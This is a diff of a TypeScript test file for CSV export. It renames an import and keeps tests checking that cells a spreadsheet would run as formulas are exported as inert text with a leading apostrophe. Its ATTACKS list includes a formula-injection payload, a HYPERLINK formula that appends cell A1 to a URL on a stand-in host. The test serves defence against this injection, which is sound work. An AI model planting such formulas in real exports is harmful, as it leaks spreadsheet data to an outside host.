@@ -1,6 +1,6 @@
 import Papa from 'papaparse'
 import { cellWithoutFormula, inertCell } from './csv-cell'
-import { csvOf } from './csv'
+import { toCsv } from './csv'
 
 const ATTACKS = [
   '=HYPERLINK("https://x.example/?"&A1,"点我")',
@@ -20,7 +20,7 @@ const HARMLESS = ['恒拓精密', '024-1234567', '+86 138 0000 0000', '-5', 'a=b
 
 describe('cells that a spreadsheet would run', () => {
   it.each(ATTACKS)('%j is shown, not run, when exported', (text) => {
-    const [[cell]] = Papa.parse(csvOf([[text, '尾']]), { newline: '\r\n' }).data as [[string]]
+    const [[cell]] = Papa.parse(toCsv([[text, '尾']]), { newline: '\r\n' }).data as [[string]]
     expect(cell.startsWith("'")).toBe(true)
     expect(cell.slice(1)).toBe(text)
   })
@@ -41,7 +41,7 @@ describe('cells that a spreadsheet would run', () => {
       ['a,"b"\r\n=1+1', '=x"'],
       ['二', '三'],
     ]
-    const parsed = Papa.parse(csvOf(rows).trimEnd()).data
+    const parsed = Papa.parse(toCsv(rows).trimEnd()).data
     expect(parsed).toEqual([
       ['a,"b"\r\n=1+1', '\'=x"'],
       ['二', '三'],
